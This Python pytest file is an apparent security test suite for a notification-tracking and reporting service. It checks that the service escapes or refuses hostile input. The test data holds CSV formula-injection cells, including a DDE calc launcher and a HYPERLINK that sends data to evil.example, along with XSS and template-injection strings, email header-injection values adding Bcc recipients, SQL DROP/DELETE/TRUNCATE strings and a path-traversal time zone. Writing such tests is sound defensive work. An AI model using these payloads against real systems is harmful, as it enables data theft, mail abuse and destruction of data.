"""Hostile input everywhere it can enter, beyond what the feature tests already try.

Already covered, not repeated: ID lists that are huge, binary, UTF-16 or cp1252, ragged, or hold formulas
(tests/test_id_list.py, tests/test_resend.py); resend params (negative limits, path-like template,
SQL-like incident id) and the `=cmd|` line in an uploaded list (tests/test_resend.py); `neutralise_cell`
unit cases and `=cmd|`, `+`, `-`, `@` in a report file (tests/test_report.py); `<script>` in both
emails; a newline in a subject or recipient (tests/test_mailer.py); a negative not_at_provider_max
(tests/test_monitoring.py); unparsable or too long report periods (tests/test_report.py).

Added here: every text column of both CSVs against every formula trigger (leading spaces included),
template injection and attribute breaking in both email templates, headers and recipients smuggled
in through other characters, SQL-looking values carried through extract, reconcile, flags and the
report, address validation, absurd thresholds and report dates.
"""

from __future__ import annotations

import csv
import io
import math
import uuid
from datetime import UTC, date, datetime, timedelta

import pytest
from eventlog import insert_logged
from markupsafe import escape

from mailtrace import report, resend
from mailtrace.mailer import build_message, send_email
from mailtrace.monitoring import Thresholds
from mailtrace.report import ReportPeriodError, adhoc_period, build_report, resolve_period
from mailtrace.settings import setting

NOW = datetime.now(UTC).replace(microsecond=0)
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
HOSTILE_CELLS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '  =HYPERLINK("http://evil.example/?"&A1)',
    " +1",
    '=DDE("cmd";"/C calc";"!A0")',
]
SQL_VALUE = "x'); DROP TABLE mailtrace.contact; --"


def formula_safe(cell: str) -> bool:
    return not cell.lstrip(" ").startswith(FORMULA_TRIGGERS)


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


# ------------------------------------------------------------------------------- CSV formula injection


def _insert_event(conn, event_id: str, sent_at: datetime, **values) -> None:
    row = {
        "event_id": event_id,
        "subject_type": "registration",
        "subject_id": f"R-{event_id}",
        "notification_type": "NOC",
        "recipient_email": f"{event_id}@example.com",
        "provider": "gc_notify",
        "provider_reference": f"ref-{event_id}",
        "client_reference": None,
        "sent_at": sent_at,
        "local_status": "SENT",
        "delivery_status": "permanent_failure",
        "failure_reason": "invalid_address",
        "delivery_detail": "bounced",
        **values,
    }
    insert_logged(conn, row)
    conn.commit()


def test_every_report_cell_is_formula_safe(warehouse_conn, s3_bucket, aws):
    period = adhoc_period("2026-01-05", "2026-01-11", "America/Vancouver")
    for n, value in enumerate(HOSTILE_CELLS):
        _insert_event(
            warehouse_conn,
            f"{value}#{n}",
            datetime(2026, 1, 6, 17, n, tzinfo=UTC),
            subject_id=value,
            notification_type=value,
            recipient_email=value,
            provider_reference=value,
            delivery_detail=value,
        )
    built = build_report(period, bucket=s3_bucket, subject_id_header="=HEADER()")
    data = aws.client("s3").get_object(Bucket=s3_bucket, Key=built["s3_key"])["Body"].read()
    rows = csv_cells(data)
    assert rows[0][4] == "'=HEADER()"
    assert len(rows) == len(HOSTILE_CELLS) + 1
    unsafe = [cell for row in rows for cell in row if not formula_safe(cell)]
    assert unsafe == []
    # Neutralised, not altered: dropping the apostrophe gives the stored value back.
    for row in rows[1:]:
        original = row[4][1:]
        assert original in HOSTILE_CELLS
        assert [row[1], row[6], row[8], row[9]] == [row[4]] * 4


@pytest.fixture
def resend_env(warehouse_conn, s3_bucket, aws, monkeypatch):
    monkeypatch.setenv("AIRFLOW_VAR_MAILTRACE_REPORT_BUCKET", s3_bucket)
    monkeypatch.setenv("AIRFLOW_VAR_MAILTRACE_ENVIRONMENT", "production")
    with warehouse_conn.transaction():
        warehouse_conn.execute(
            """INSERT INTO mailtrace.contact (subject_type, subject_id, email)
               VALUES ('registration', 'STR-000001', 'delivered@example.gov')"""
        )
    return aws.client("s3"), s3_bucket


def test_every_outcome_cell_is_formula_safe(resend_env):
    s3, bucket = resend_env
    lines = ["registration_number", "STR-000001", *(f'"{v}"' if "," in v else v for v in HOSTILE_CELLS)]
    upload = "\r\n".join(line.replace("\r=", "=") for line in lines).encode()
    s3.put_object(Bucket=bucket, Key="resend-requests/INC-1/hostile.csv", Body=upload)
    params = resend.ResendParams(
        incident_id="INC-1",
        id_type="registration",
        ids_s3_uri=f"s3://{bucket}/resend-requests/INC-1/hostile.csv",
    )
    resend.plan_resend(params, run_id="dry-hostile")
    body = s3.get_object(Bucket=bucket, Key="resend-outcomes/INC-1/dry-hostile.csv")["Body"].read()
    rows = csv_cells(body)
    assert [cell for row in rows for cell in row if not formula_safe(cell)] == []
    decisions = [row[3] for row in rows[1:]]
    assert decisions[0] == "would_send" and set(decisions[1:]) == {"reject"}


# ------------------------------------------------------------------------------------ email templates

TEMPLATE_PAYLOADS = [
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% for x in range(3) %}X{% endfor %}",
    "<a href='javascript:alert(1)'>x</a>",
    "&lt;already escaped&gt;",
]


@pytest.mark.parametrize("payload", TEMPLATE_PAYLOADS)
@pytest.mark.parametrize("language", resend.LANGUAGES)
def test_resend_templates_escape_html_and_never_evaluate_data(payload, language):
    rendered = resend.render_email(
        "error_resolved", language, subject_type="registration", subject_id=payload
    )
    assert "<img" not in rendered.html and "<a href='javascript" not in rendered.html
    assert "49" not in rendered.html + rendered.text + rendered.subject  # data is not a template
    assert "XXX" not in rendered.text
    assert payload in rendered.text  # the plain-text part shows the value as it is
    assert str(escape(payload)) in rendered.html


@pytest.mark.parametrize("payload", TEMPLATE_PAYLOADS)
def test_report_email_escapes_every_data_field(payload):
    context = {
        "period_label": "2026-W02",
        "period_kind": "weekly",
        "first_day": "2026-01-05",
        "last_day": "2026-01-11",
        "timezone": "America/Vancouver",
        "total": 1,
        "previous_total": 0,
        "change": 1,
        "previous_label": "2026-W01",
        "by_type": [{"notification_type": payload, "current": 1, "previous": 0, "change": 1}],
        "by_reason": [
            {"delivery_status": "permanent_failure", "failure_reason": payload, "current": 1, "previous": 0}
            | {"change": 1}
        ],
        "flagged": [
            {
                "subject_type": payload,
                "subject_id": payload,
                "email": payload,
                "failure_reason": payload,
                "flagged_at": "2026-01-06 10:00",
            }
        ],
        "flagged_total": 1,
        "delivery": "link",
        "row_count": 1,
        "filename": payload,
        "link": 'https://s3.example/x?a=1&b="><script>alert(1)</script>',
        "link_expires": "2026-01-15 06:00 PST",
        "s3_uri": "s3://bucket/key",
        "delivery_page_url": 'https://page.example/d?x="><script>alert(2)</script>',
    }
    subject, text, html = report.render_email(context)
    assert "<img" not in html and "<script>" not in html and "<a href='javascript" not in html
    assert "49" not in html + text
    assert payload in text
    assert '"><script>' not in html  # the presigned link cannot break out of its href


# ------------------------------------------------------------------------------------------ headers


@pytest.mark.parametrize(
    ("field", "kwargs"),
    [
        ("sender", {"sender": "m@example.gov\r\nBcc: evil@example.com"}),
        ("subject", {"subject": "hi\rBcc: evil@example.com"}),
        ("recipient", {"to": ["a@example.gov\rBcc: evil@example.com"]}),
        ("recipient", {"to": ["a@example.gov, evil@example.com"]}),
        ("recipient", {"to": ["a@example.gov; evil@example.com"]}),
        ("recipient", {"to": ["Name <a@example.gov>, evil@example.com"]}),
        ("recipient", {"to": ["not an address"]}),
    ],
)
def test_headers_and_recipient_lists_cannot_be_smuggled(field, kwargs):
    values = {"sender": "m@example.gov", "to": ["a@example.gov"], "subject": "hi", "text": "x", **kwargs}
    with pytest.raises(ValueError, match=field):
        build_message(**values)


@pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\r"])
def test_any_line_break_in_a_subject_is_refused_before_anything_is_sent(smtp_server, separator):
    with pytest.raises(ValueError, match="subject must be a single line"):
        send_email(to=["examiner@example.gov"], subject=f"hi{separator}Bcc: evil@example.com", text="x")
    assert smtp_server.messages == []


def test_a_display_name_with_a_comma_is_still_one_recipient(smtp_server):
    send_email(to=['"Smith, Jo" <jo@example.gov>'], subject="hi", text="x")
    assert smtp_server.envelopes == [("mailtrace@example.gov", ["jo@example.gov"])]


@pytest.mark.parametrize(
    "address",
    [
        "a@example.gov,evil@example.com",
        "a@example.gov\nBcc: evil@example.com",
        "<a@example.gov>",
        "Name <a@example.gov>",
        "a@exa mple.gov",
        "a@localhost",
        "a@[127.0.0.1]",
        "a..b@example.gov",
        "@example.gov",
        "a@",
        "a@" + "b" * 250 + ".gov",
        "=cmd|' /C calc'!A0@example.gov",
    ],
)
def test_resend_refuses_malformed_addresses_before_sending(address):
    assert resend.address_problem(address) is not None


# ------------------------------------------------------------------------------- SQL through the data


def test_sql_looking_values_flow_through_the_pipeline_as_plain_data(
    warehouse_conn, notify_sim, s3_bucket, aws
):
    from mailtrace.flags import update_flags
    from mailtrace.notify_extract import extract_list
    from mailtrace.providers.gc_notify import NotifyClient
    from mailtrace.reconcile import reconcile

    notification_id = str(uuid.uuid4())
    created = NOW - timedelta(minutes=20)
    hostile_reference = "ref'; DELETE FROM mailtrace.notification_event; --"
    notify_sim.add_notifications(
        [
            {
                "id": notification_id,
                "email_address": "o'brien@example.gov",
                "status": "permanent-failure",
                "provider_response": "'); TRUNCATE mailtrace.provider_event; --",
                "reference": hostile_reference,
                "created_at": created,
            }
        ]
    )
    with warehouse_conn.transaction():
        warehouse_conn.execute(
            "INSERT INTO mailtrace.contact (subject_type, subject_id, email) VALUES ('registration', %s, %s)",
            (SQL_VALUE, "o'brien@example.gov"),
        )
    _insert_event(
        warehouse_conn,
        SQL_VALUE,
        created,
        subject_id=SQL_VALUE,
        notification_type="NOC'; --",
        recipient_email="o'brien@example.gov",
        provider_reference=None,
        client_reference=hostile_reference,
        delivery_status=None,
        failure_reason=None,
        delivery_detail=None,
    )

    extract_list(warehouse_conn, NotifyClient(notify_sim.api_key, notify_sim.base_url), now=NOW)
    reconcile(warehouse_conn, now=NOW)
    update_flags(warehouse_conn)
    local_day = created.astimezone(report.periods._zone("America/Vancouver")).date()  # noqa: SLF001
    built = build_report(adhoc_period(local_day, local_day), bucket=s3_bucket)

    assert warehouse_conn.execute("SELECT subject_id, email FROM mailtrace.contact").fetchall() == [
        (SQL_VALUE, "o'brien@example.gov")
    ]
    event = warehouse_conn.execute(
        "SELECT event_id, delivery_status, delivery_detail FROM mailtrace.notification_status"
    ).fetchone()
    assert event[:2] == (SQL_VALUE, "permanent_failure")
    assert "TRUNCATE mailtrace.provider_event" in event[2]
    assert warehouse_conn.execute("SELECT count(*) FROM mailtrace.provider_event").fetchone() == (1,)
    flagged = warehouse_conn.execute("SELECT subject_id, email FROM mailtrace.flagged_address").fetchall()
    assert flagged == [(SQL_VALUE, "o'brien@example.gov")]
    warehouse_conn.commit()
    data = aws.client("s3").get_object(Bucket=s3_bucket, Key=built["s3_key"])["Body"].read()
    (row,) = csv_cells(data)[1:]
    assert (row[4], row[7]) == (SQL_VALUE, SQL_VALUE)


# ------------------------------------------------------------------------------ thresholds and params


@pytest.mark.parametrize(
    "values",
    [
        {"delivery_rate_floor": -0.1},
        {"delivery_rate_floor": 1.5},
        {"delivery_rate_floor": math.nan},
        {"delivery_rate_floor": math.inf},
        {"min_sample": -1},
        {"not_at_provider_max": -(10**9)},
        {"grace": timedelta(hours=-2)},
        {"window": timedelta(0)},
        {"window": timedelta(days=-1)},
    ],
    ids=lambda v: f"{next(iter(v))}={next(iter(v.values()))}",
)
def test_absurd_thresholds_are_refused(values):
    with pytest.raises(ValueError):
        Thresholds(**values)


@pytest.mark.parametrize("value", ["0", "-5", "abc", "1e3", "[]", "169"])
def test_report_size_and_expiry_settings_must_be_positive_whole_numbers(monkeypatch, value):
    monkeypatch.setenv("AIRFLOW_VAR_MAILTRACE_REPORT_LINK_EXPIRY_HOURS", value)
    with pytest.raises(ValueError, match="mailtrace_report_link_expiry_hours"):
        setting("report_link_expiry_hours")


@pytest.mark.parametrize(
    ("start", "end"),
    [
        ("2026-02-30", "2026-03-01"),
        ("2026-01-01", "2026-00-10"),
        ("9999-12-31", "9999-12-31"),
        ("0001-01-01", "0001-01-02"),
        (20260101, 20260102),
        ("2026-01-01T00:00:00", "2026-01-02"),
        ("2026-01-01\x00", "2026-01-02"),
        ("2026-01-01'; DROP TABLE mailtrace.report_manifest; --", "2026-01-02"),
        ("", "2026-01-02"),
    ],
)
def test_absurd_report_dates_are_refused_clearly(start, end):
    with pytest.raises(ReportPeriodError):
        period = resolve_period({"start": start, "end": end}, NOW, "America/Vancouver")
        # A period that was accepted must be usable all the way to its query bounds.
        period.previous().start, period.end  # noqa: B018


@pytest.mark.parametrize("timezone", ["Mars/Olympus_Mons", "../../etc/passwd", "", "UTC; DROP"])
def test_bogus_time_zone_is_refused(timezone):
    with pytest.raises(ValueError, match="time zone"):
        adhoc_period(date(2026, 1, 1), date(2026, 1, 2), timezone).start  # noqa: B018
